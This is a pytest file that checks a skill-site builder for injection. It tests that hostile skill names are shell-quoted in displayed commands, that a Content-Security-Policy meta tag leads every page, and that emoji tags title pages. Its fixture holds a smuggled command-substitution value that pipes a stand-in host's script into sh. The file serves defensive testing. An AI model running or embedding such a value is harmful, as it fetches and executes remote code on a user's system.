"""Issue #20, items 2, 5 and 19: names and tags that reach shell commands, ``<title>`` and
page titles, checked in headless Chromium."""
from __future__ import annotations

import shlex
from pathlib import Path
from typing import Any

import pytest

from skillsite.builder.pipeline import build
from skillsite.site.data import slug_of

INJECTED = "pdf-helper$(curl -s https://evil.test/x | sh)"
CSP_TAG = "Content-Security-Policy"
ROCKET = "🚀"


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("names") / "corpus"
    (root / "wiki").mkdir(parents=True)
    (root / "wiki" / "helper.md").write_text(
        "---\ntype: skill\n"
        f"name: '{INJECTED}'\n"
        "description: Fills PDF forms. Use when a PDF form must be filled.\n"
        f"tags: ['{CSP_TAG}', '{ROCKET}']\n---\n\n# Helper\n\nFill the form.\n",
        encoding="utf-8")
    (root / "policy.skill.toml").write_text(
        f'name = "{CSP_TAG} helper"\nversion = "1.0.0"\nskill_type = "knowledge"\n'
        'description = "Explains policies. Use when a policy is unclear."\n'
        'prompt_additions = ["Explain the policy."]\n', encoding="utf-8")
    (root / "rocket").mkdir()
    (root / "rocket" / "SKILL.md").write_text(
        "---\nname: rocket\ndescription: Launches things. Use when launching.\n"
        f"tags: ['{ROCKET}']\n---\n# Rocket\n", encoding="utf-8")
    dist = root.parent / "dist"
    result = build(root, dist, site=True)
    assert result.included == 3, result.problems
    return dist / "site"


@pytest.fixture()
def names_url(hostile_site: Path, serve_folder: Any) -> str:
    return serve_folder(hostile_site)


def _code_blocks(page: Any) -> list[str]:
    return page.eval_on_selector_all(".skillsite-use pre code", "els => els.map(e => e.textContent)")


def test_commands_quote_the_name_and_install_only_invocable_names(page: Any,
                                                                  names_url: str) -> None:
    """Item 2."""
    page.goto(names_url + f"skills/{slug_of(INJECTED)}/")
    commands = _code_blocks(page)
    assert commands, "no commands on the page"
    read = [c for c in commands if c.startswith("skillsite read")]
    assert read == [f"skillsite read {shlex.quote(INJECTED)}"]
    assert shlex.split(read[0]) == ["skillsite", "read", INJECTED]
    assert not any("mkdir" in c or "npx" in c for c in commands)
    assert "No install command" in page.inner_text(".skillsite-use")
    assert "no flags" not in page.inner_text(".skillsite-badges")
    assert "name-shell-characters" in page.inner_text("main")
    page.goto(names_url + "skills/rocket/")
    commands = _code_blocks(page)
    assert any(c.startswith("curl -fsSL --create-dirs -o ~/.claude/skills/rocket/SKILL.md ")
               for c in commands)


@pytest.mark.parametrize("path", [f"tags/{slug_of(CSP_TAG)}/",
                                  f"skills/{slug_of(CSP_TAG + ' helper')}/",
                                  f"skills/{slug_of(INJECTED)}/", "tags/"])
def test_every_page_carries_the_policy_first(page: Any, names_url: str, path: str) -> None:
    """Item 5: a name or tag saying "Content-Security-Policy" in <title>."""
    page.goto(names_url + path)
    first = page.evaluate("() => document.head.firstElementChild.outerHTML")
    assert first.startswith('<meta http-equiv="Content-Security-Policy"'), first[:200]
    page.evaluate("""() => { const s = document.createElement('script');
                             s.textContent = 'window.__ran = 1'; document.head.append(s) }""")
    assert page.evaluate("() => window.__ran || null") is None, f"{path}: inline script ran"


def test_a_non_bmp_tag_titles_its_page(page: Any, names_url: str) -> None:
    """Item 19."""
    page.goto(names_url + f"tags/{slug_of(ROCKET)}/")
    assert ROCKET in page.title()
    assert page.title() != "Index"
